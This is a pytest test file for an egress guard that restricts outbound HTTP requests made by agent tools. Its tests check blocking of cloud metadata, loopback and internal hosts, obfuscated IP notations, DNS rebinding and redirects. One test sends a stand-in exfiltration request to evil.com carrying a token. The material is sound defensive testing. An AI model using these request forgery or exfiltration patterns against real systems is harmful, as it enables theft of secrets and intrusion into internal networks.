"""The egress guard: precedence, normalization, pinning, redirects through a real local server, async."""

from __future__ import annotations

import asyncio
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest

from corral.errors import ConfigError, EgressDenied
from corral.spec.agent import AgentSpec
from corral.tools.contract import ToolContext, ToolRegistry, tool
from corral.tools.egress import (
    EgressInterceptor,
    EgressPolicy,
    async_egress_client,
    client_for,
    egress_client,
    normalize_host,
)
from corral.tools.proxy import ContractCheck, ToolInvocation, ToolProxy

PUBLIC = "93.184.216.34"


def fake_dns(table: dict[str, list[str]]) -> Any:
    def resolve(host: str, port: int) -> list[str]:
        if host not in table:
            raise OSError(f"NXDOMAIN {host}")
        return table[host]

    return resolve


def ok(request: httpx.Request) -> httpx.Response:
    return httpx.Response(200, json={"url": str(request.url), "host": request.headers["host"],
                                     "sni": request.extensions.get("sni_hostname")})


def test_empty_policy_denies_everything() -> None:
    with pytest.raises(EgressDenied, match="default deny"):
        EgressPolicy().check_host("example.com")


def test_blueprint_spec_allows_only_its_domain() -> None:
    spec = AgentSpec(name="a", blocked_domains=("*",), allow_domains=("kb.internal.company",))
    policy = EgressPolicy.from_spec(spec)
    assert policy.check_host("KB.Internal.Company.") == "kb.internal.company"
    with pytest.raises(EgressDenied):
        policy.check_host("other.company")


def test_explicit_block_beats_wildcard_allow() -> None:
    policy = EgressPolicy(allow_domains=("*.example.org",), blocked_domains=("*", "*.secret.example.org"))
    assert policy.check_host("docs.example.org") == "docs.example.org"
    with pytest.raises(EgressDenied, match="blocked by"):
        policy.check_host("db.secret.example.org")


def test_explicit_block_beats_exact_allow() -> None:
    policy = EgressPolicy(allow_domains=("a.example.org",), blocked_domains=("a.example.org",))
    with pytest.raises(EgressDenied, match="blocked by"):
        policy.check_host("a.example.org")


def test_blocked_network_refuses_a_public_answer() -> None:
    policy = EgressPolicy(allow_domains=("*",), blocked_domains=("93.184.216.0/24",))
    with pytest.raises(EgressDenied, match="address blocked"):
        policy.check_url("http://example.com/", fake_dns({"example.com": [PUBLIC]}))


def test_invalid_pattern_is_a_config_error() -> None:
    with pytest.raises(ConfigError, match="allow_domains"):
        EgressPolicy(allow_domains=("exa*mple.com",))


@pytest.mark.parametrize(
    ("raw", "expected"),
    [("2130706433", "127.0.0.1"), ("0x7f.1", "127.0.0.1"), ("0177.0.0.1", "127.0.0.1"), ("127.1", "127.0.0.1"),
     ("[::ffff:127.0.0.1]", "::ffff:7f00:1"), ("fe80::1%eth0", "fe80::1"), ("Bücher.DE.", "xn--bcher-kva.de")],
)
def test_normalize_host_reads_every_notation(raw: str, expected: str) -> None:
    assert str(normalize_host(raw)) == expected


def test_request_is_pinned_to_the_checked_address_with_host_and_sni_kept() -> None:
    policy = EgressPolicy(allow_domains=("example.com",))
    with egress_client(policy, resolver=fake_dns({"example.com": [PUBLIC]}), inner=httpx.MockTransport(ok)) as c:
        seen = c.get("https://example.com:8443/path?q=1", headers={"Host": "internal.admin"}).json()
    assert seen == {"url": f"https://{PUBLIC}:8443/path?q=1", "host": "example.com:8443", "sni": "example.com"}


def test_dns_rebinding_after_the_check_cannot_move_the_connection() -> None:
    answers = iter([[PUBLIC], ["127.0.0.1"], ["127.0.0.1"]])
    policy = EgressPolicy(allow_domains=("example.com",))
    with egress_client(policy, resolver=lambda h, p: next(answers), inner=httpx.MockTransport(ok)) as c:
        assert c.get("http://example.com/").json()["url"] == f"http://{PUBLIC}/"
        with pytest.raises(EgressDenied, match="loopback"):
            c.get("http://example.com/")


def test_denial_message_never_carries_path_or_query() -> None:
    policy = EgressPolicy(allow_domains=("example.com",))
    with egress_client(policy, inner=httpx.MockTransport(ok)) as c, pytest.raises(EgressDenied) as err:
        c.get("http://evil.com/steal?token=s3cr3t")
    assert "s3cr3t" not in str(err.value) and "steal" not in str(err.value)
    assert err.value.context.extra["url_host"] == "evil.com"


def test_unresolvable_name_is_denied() -> None:
    policy = EgressPolicy(allow_domains=("*",))
    with pytest.raises(EgressDenied, match="cannot resolve"):
        policy.check_url("http://nowhere.example/", fake_dns({}))


def test_async_client_checks_every_request() -> None:
    policy = EgressPolicy(allow_domains=("example.com",))

    async def go() -> tuple[str, str]:
        dns = fake_dns({"example.com": [PUBLIC]})
        async with async_egress_client(policy, resolver=dns, inner=httpx.MockTransport(ok)) as c:
            good = (await c.get("http://example.com/")).json()["url"]
            try:
                await c.get("http://169.254.169.254/")
            except EgressDenied as exc:
                return good, str(exc)
        return good, "not denied"

    good, denied = asyncio.run(go())
    assert good == f"http://{PUBLIC}/"
    assert "denied" in denied and denied != "not denied"


# --- redirects through a real server on 127.0.0.1 ---------------------------------------------------------


class _Handler(BaseHTTPRequestHandler):
    routes: dict[str, str] = {}

    def do_GET(self) -> None:  # noqa: N802
        port = self.server.server_address[1]
        target = self.routes.get(self.path)
        if target is not None:
            self.send_response(302)
            self.send_header("Location", target.format(port=port))
            self.end_headers()
            return
        body = f"reached {self.path} host={self.headers['Host']}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def local_server() -> Iterator[int]:
    _Handler.routes = {
        "/to-metadata": "http://metadata.test:{port}/latest/meta-data/",
        "/to-localhost": "http://localhost:{port}/ok",
        "/to-internal": "http://db.corp.test:{port}/ok",
        "/relative": "/ok",
    }
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


# The first hop is 127.0.0.1, allowed by an explicit IP entry; every redirect target is an internal host
# (the fake resolver maps the names inside) and must be refused.
LOCAL_POLICY = EgressPolicy(allow_domains=("127.0.0.1", "metadata.test", "*.corp.test"))
LOCAL_DNS = fake_dns({"metadata.test": ["169.254.169.254"], "db.corp.test": ["10.0.0.7"]})


@pytest.mark.parametrize("path", ["/to-metadata", "/to-localhost", "/to-internal"])
def test_redirect_from_allowed_local_server_to_internal_host_is_refused(local_server: int, path: str) -> None:
    with egress_client(LOCAL_POLICY, resolver=LOCAL_DNS) as c, pytest.raises(EgressDenied):
        c.get(f"http://127.0.0.1:{local_server}{path}")


def test_relative_redirect_on_allowed_local_server_is_followed(local_server: int) -> None:
    with egress_client(LOCAL_POLICY, resolver=LOCAL_DNS) as c:
        response = c.get(f"http://127.0.0.1:{local_server}/relative")
    assert response.text == f"reached /ok host=127.0.0.1:{local_server}"
    assert len(response.history) == 1


def test_loopback_server_is_refused_without_the_explicit_entry(local_server: int) -> None:
    with egress_client(EgressPolicy(allow_domains=("*",)), resolver=LOCAL_DNS) as c, pytest.raises(EgressDenied):
        c.get(f"http://127.0.0.1:{local_server}/ok")


# --- the policy handed to tools through the proxy -----------------------------------------------------------


def _fetch(url: str, ctx: ToolContext) -> str:
    with client_for(ctx) as http:
        return http.get(url).text


def _fetch_call(policy: EgressPolicy | None, url: str) -> Any:
    fetch = tool(_fetch, name="fetch", registry=ToolRegistry())
    chain = [ContractCheck(), *([EgressInterceptor(policy, resolver=LOCAL_DNS)] if policy else [])]
    inv = ToolInvocation(tool=fetch, arguments={"url": url}, context=ToolContext(run_id="r", step=1, call_id="c"))
    return ToolProxy(chain).call(inv).result


def test_tools_get_the_agent_policy_through_the_egress_interceptor(local_server: int) -> None:
    assert _fetch_call(LOCAL_POLICY, f"http://127.0.0.1:{local_server}/ok").startswith("reached /ok")
    with pytest.raises(EgressDenied):
        _fetch_call(LOCAL_POLICY, f"http://127.0.0.1:{local_server}/to-metadata")


def test_tool_without_a_policy_gets_deny_all(local_server: int) -> None:
    with pytest.raises(EgressDenied, match="default deny"):
        _fetch_call(None, f"http://127.0.0.1:{local_server}/ok")
